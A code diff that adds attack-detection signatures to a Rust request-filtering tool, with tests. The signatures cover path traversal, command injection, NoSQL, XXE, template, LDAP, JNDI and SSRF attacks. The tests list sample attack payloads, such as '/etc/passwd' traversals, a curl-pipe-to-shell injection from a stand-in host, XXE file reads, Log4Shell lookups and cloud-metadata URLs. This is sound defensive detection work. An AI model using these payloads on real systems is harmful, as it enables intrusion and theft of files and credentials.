@@ -121,6 +121,210 @@ pub fn xss() -> Signature {
     )
 }
 
+/// Path traversal and local file inclusion (on a value, or a path from `normalize::path`).
+pub fn traversal() -> Signature {
+    Signature::new(
+        "path_traversal",
+        3,
+        &[
+            ("dot_dot", r"(^|[/\\=])\.\.([/\\]|$)", 2),
+            ("unix_secret", r"/etc/(passwd|shadow|group|hosts|issue)\b|/proc/self/(environ|cmdline|fd)", 3),
+            ("windows_file", r"\b(win\.ini|boot\.ini|system32|web-inf/web\.xml)\b", 3),
+            ("wrapper", r"\b(php|file|expect|zip|phar|data|glob)://", 3),
+            ("null_byte", r"\x00", 2),
+        ],
+    )
+}
+
+/// OS command injection.
+pub fn command() -> Signature {
+    Signature::new(
+        "command_injection",
+        3,
+        &[
+            (
+                "chained_command",
+                r"(;|\||&&|\|\||`|\$\()\s*(cat|id|whoami|uname|ls|wget|curl|nc|ncat|bash|sh|ping|sleep|echo|python[23]?|perl|ruby|php|powershell|cmd|net|ifconfig|ip|nslookup|dig|rm|chmod|tftp)\b",
+                3,
+            ),
+            ("shell_path", r"/bin/(ba|z|da)?sh\b|cmd(\.exe)?\s*/c\b", 3),
+            ("ifs", r"\$\{?ifs\}?", 3),
+            ("substitution", r"\$\([^)]*\)|`[^`]+`", 1),
+        ],
+    )
+}
+
+/// NoSQL (MongoDB-style) operator injection: operators in keys or values, server-side
+/// JavaScript.
+pub fn nosql() -> Signature {
+    Signature::new(
+        "nosql_injection",
+        3,
+        &[
+            ("operator", r#"(\[|"|^)\$(ne|gt|gte|lt|lte|regex|where|exists|in|nin|or|and|nor|not|expr|eq)\b"#, 3),
+            ("server_js", r"\breturn\s+true\b|\bthis\.\w+\.match\(|\bsleep\(\d+\)\s*;", 2),
+            ("js_break", r#"['"]\s*;\s*(return|var|while|sleep)\b"#, 2),
+        ],
+    )
+}
+
+/// XML external entities.
+pub fn xxe() -> Signature {
+    Signature::new(
+        "xxe",
+        3,
+        &[
+            ("doctype_subset", r"<!doctype[^>]*\[", 1),
+            ("entity", r"<!entity", 2),
+            ("external", r#"\b(system|public)\s+["'][a-z]+:"#, 2),
+            ("parameter_entity", r"%\w+;", 1),
+        ],
+    )
+}
+
+/// Server-side template injection.
+pub fn ssti() -> Signature {
+    Signature::new(
+        "template_injection",
+        3,
+        &[
+            ("arithmetic_probe", r"(\{\{|\$\{|#\{|<%=?|\{%|\{\$)\s*\d+\s*\*\s*\d+", 3),
+            (
+                "introspection",
+                r"__(class|mro|subclasses|globals|builtins|import)__|\bconfig\.items\(|\bself\._template|\bget_flashed_messages\b|freemarker\.template|\bt\(java\.lang",
+                3,
+            ),
+            ("template_block", r"\{\{[^}]{1,80}\}\}|\{%[^%]{1,80}%\}", 1),
+        ],
+    )
+}
+
+/// LDAP injection: filter metacharacters that close and reopen a filter.
+pub fn ldap() -> Signature {
+    Signature::new(
+        "ldap_injection",
+        3,
+        &[
+            ("filter_break", r"\*?\)\s*\(\s*[|&!]|\)\s*\(\s*\w+\s*=\s*\*", 3),
+            ("wildcard_attribute", r"\(\s*(uid|cn|mail|objectclass|userpassword|sn)\s*=\s*\*", 1),
+        ],
+    )
+}
+
+/// Log4Shell-style lookups and other header attacks.
+pub fn jndi() -> Signature {
+    Signature::new(
+        "jndi_lookup",
+        3,
+        &[
+            ("jndi", r"\$\{\s*jndi\s*:", 3),
+            // `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`: lookups nested to hide the word.
+            ("nested_lookup", r"\$\{[^{}]*\$\{\s*(lower|upper|env|sys|date|::-|k8s|main|bundle)\b", 3),
+        ],
+    )
+}
+
+/// User agents of attack and scanning tools.
+pub fn scanner_agent() -> Signature {
+    Signature::new(
+        "scanner_user_agent",
+        3,
+        &[(
+            "tool",
+            r"\b(sqlmap|nikto|nmap|masscan|wfuzz|ffuf|gobuster|dirbuster|dirb|nuclei|hydra|acunetix|nessus|openvas|zgrab|w3af|wpscan|arachni|skipfish|commix|havij|jaeles|zap|burp)\b",
+            3,
+        )],
+    )
+}
+
+/// SSRF attempts: a URL-valued parameter pointing at the server's own side (loopback,
+/// private and link-local ranges, cloud metadata addresses, in any of the spellings
+/// servers accept: `0x7f000001`, `2130706433`, `0177.0.0.1`, `[::1]`), or using a scheme
+/// that reaches other services (`file`, `gopher`, `dict`, `ldap`, `jar`, `netdoc`).
+pub fn ssrf(normalized: &str) -> Option<Hit> {
+    let mut signs = Vec::new();
+    for (at, _) in normalized.match_indices("://") {
+        let scheme_start = normalized[..at]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
+            .map_or(0, |i| i + 1);
+        let scheme = &normalized[scheme_start..at];
+        if matches!(scheme, "file" | "gopher" | "dict" | "ldap" | "ldaps" | "jar" | "netdoc" | "tftp") {
+            signs.push("internal_scheme");
+        }
+        let rest = &normalized[at + 3..];
+        let authority = rest.split(['/', '?', '#', ' ', '"', '\'', '&']).next().unwrap_or("");
+        let host_port = authority.rsplit('@').next().unwrap_or("");
+        let host = match host_port.strip_prefix('[') {
+            Some(v6) => v6.split(']').next().unwrap_or(""),
+            None => host_port.split(':').next().unwrap_or(""),
+        };
+        if internal_host(host) {
+            signs.push("internal_host");
+        }
+    }
+    signs.dedup();
+    (!signs.is_empty()).then(|| Hit { signature: "ssrf", score: 3 * signs.len() as u32, signs })
+}
+
+/// Whether `host` names the server's own side: loopback, private, link-local, metadata.
+fn internal_host(host: &str) -> bool {
+    if matches!(host, "localhost" | "metadata.google.internal" | "metadata" | "instance-data")
+        || host.ends_with(".localhost")
+    {
+        return true;
+    }
+    let ip: Option<std::net::IpAddr> = host.parse().ok().or_else(|| parse_lax_v4(host).map(std::net::IpAddr::V4));
+    match ip {
+        Some(std::net::IpAddr::V4(v4)) => {
+            let o = v4.octets();
+            v4.is_loopback()
+                || v4.is_private()
+                || v4.is_link_local()
+                || v4.is_unspecified()
+                || o[0] == 100 && (64..128).contains(&o[1])
+        }
+        Some(std::net::IpAddr::V6(v6)) => {
+            v6.is_loopback()
+                || v6.is_unspecified()
+                || (v6.segments()[0] & 0xfe00) == 0xfc00
+                || (v6.segments()[0] & 0xffc0) == 0xfe80
+                || v6.to_ipv4_mapped().is_some_and(|v4| internal_host(&v4.to_string()))
+        }
+        None => false,
+    }
+}
+
+/// IPv4 as lax resolvers read it: one number (`2130706433`), hex (`0x7f000001`), octal
+/// parts (`0177.0.0.1`), or fewer parts (`127.1`).
+fn parse_lax_v4(h: &str) -> Option<std::net::Ipv4Addr> {
+    if h.is_empty() || !h.bytes().all(|c| c.is_ascii_hexdigit() || c == b'.' || c == b'x') {
+        return None;
+    }
+    let num = |p: &str| -> Option<u64> {
+        if let Some(x) = p.strip_prefix("0x") {
+            u64::from_str_radix(x, 16).ok()
+        } else if p.len() > 1 && p.starts_with('0') {
+            u64::from_str_radix(&p[1..], 8).ok()
+        } else {
+            p.parse().ok()
+        }
+    };
+    let parts: Vec<u64> = h.split('.').map(num).collect::<Option<_>>()?;
+    let v = match parts.as_slice() {
+        [a] => *a,
+        [a, b] if *a < 256 => a << 24 | b,
+        [a, b, c] if *a < 256 && *b < 256 => a << 24 | b << 16 | c,
+        [a, b, c, d] if [a, b, c, d].iter().all(|x| **x < 256) => a << 24 | b << 16 | c << 8 | d,
+        _ => return None,
+    };
+    u32::try_from(v).ok().map(std::net::Ipv4Addr::from)
+}
+
+/// The signatures for parameter values and bodies, in one list.
+pub fn value_signatures() -> Vec<Signature> {
+    vec![sqli(), xss(), traversal(), command(), nosql(), xxe(), ssti(), ldap(), jndi()]
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -181,6 +385,113 @@ mod tests {
         {
             let v = normalize::value(benign, true);
             assert!(s.check(&v).is_none() && x.check(&v).is_none(), "{benign}");
+        }
+    }
+
+    #[test]
+    fn families_flag_their_attacks_and_not_ordinary_values() {
+        let cases: &[(fn() -> Signature, &[&str], &[&str])] = &[
+            (
+                traversal,
+                &[
+                    "../../../../etc/passwd",
+                    "..%2f..%2f..%2fetc%2fpasswd",
+                    "....//....//etc/passwd",
+                    "php://filter/convert.base64-encode/resource=index",
+                    "..\\..\\windows\\win.ini",
+                ],
+                &["2024-01-01", "a.b.c", "reports/2024/q1.pdf", "version 1..2"],
+            ),
+            (
+                command,
+                &[
+                    "127.0.0.1; cat /etc/passwd",
+                    "x|id",
+                    "`whoami`",
+                    "$(curl http://x/y.sh|sh)",
+                    "a&&ping -c 3 evil",
+                    "x;${IFS}ls",
+                ],
+                &["Tom & Jerry", "price $5", "a|b|c list", "rock;paper;scissors"],
+            ),
+            (
+                nosql,
+                &["{\"$ne\": null}", "username[$ne]=x", "{\"$where\": \"sleep(5000)\"}", "'; return true; var x='"],
+                &["price in $", "$100 or more", "cost: $nee"],
+            ),
+            (
+                xxe,
+                &["<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"],
+                &["<?xml version=\"1.0\"?><r>1</r>", "<!DOCTYPE html>"],
+            ),
+            (
+                ssti,
+                &[
+                    "{{7*7}}",
+                    "${7*7}",
+                    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+                    "<%= 7 * 7 %>",
+                    "{{config.items()}}",
+                ],
+                &["{\"a\": {\"b\": 1}}", "{{name}}", "50% * 2"],
+            ),
+            (
+                ldap,
+                &["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectclass=*)"],
+                &["(555) 123-4567", "smile :)", "a(b)c"],
+            ),
+            (jndi, &["${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x}"], &["${HOME}", "${name}"]),
+            (
+                scanner_agent,
+                &[
+                    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+                    "Mozilla/5.0 (Nikto/2.5.0)",
+                    "Fuzz Faster U Fool v2.1.0 (ffuf)",
+                ],
+                &["curl/7.88.1", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"],
+            ),
+        ];
+        for (make, attacks, ordinary) in cases {
+            let sig = make();
+            for a in *attacks {
+                assert!(sig.check(&normalize::value(a, true)).is_some(), "{} missed {a:?}", sig.name);
+            }
+            for o in *ordinary {
+                assert!(sig.check(&normalize::value(o, true)).is_none(), "{} flagged {o:?}", sig.name);
+            }
+        }
+        // A path with an escape above the root reads as traversal through normalize::path.
+        let (p, escaped) = normalize::path("/static/%2e%2e/%2e%2e/etc/passwd");
+        assert!(escaped && traversal().check(&p).is_some());
+        assert_eq!(value_signatures().len(), 9);
+    }
+
+    #[test]
+    fn ssrf_targets_in_every_spelling() {
+        for a in [
+            "http://127.0.0.1/admin",
+            "http://localhost:8080/",
+            "http://169.254.169.254/latest/meta-data/",
+            "http://[::1]/",
+            "http://0x7f000001/",
+            "http://2130706433/",
+            "http://0177.0.0.1/",
+            "http://127.1/",
+            "http://user@10.0.0.5:22/",
+            "file:///etc/passwd",
+            "gopher://evil:70/_x",
+            "url=http%3a%2f%2fmetadata.google.internal%2fcomputeMetadata",
+        ] {
+            assert!(ssrf(&normalize::value(a, true)).is_some(), "missed {a}");
+        }
+        for o in [
+            "https://api.example.com/v1/users",
+            "http://8.8.8.8/",
+            "see http://example.org for details",
+            "no url here",
+            "http://1.2.3.4.example.com/",
+        ] {
+            assert!(ssrf(&normalize::value(o, true)).is_none(), "flagged {o}");
         }
     }
 }
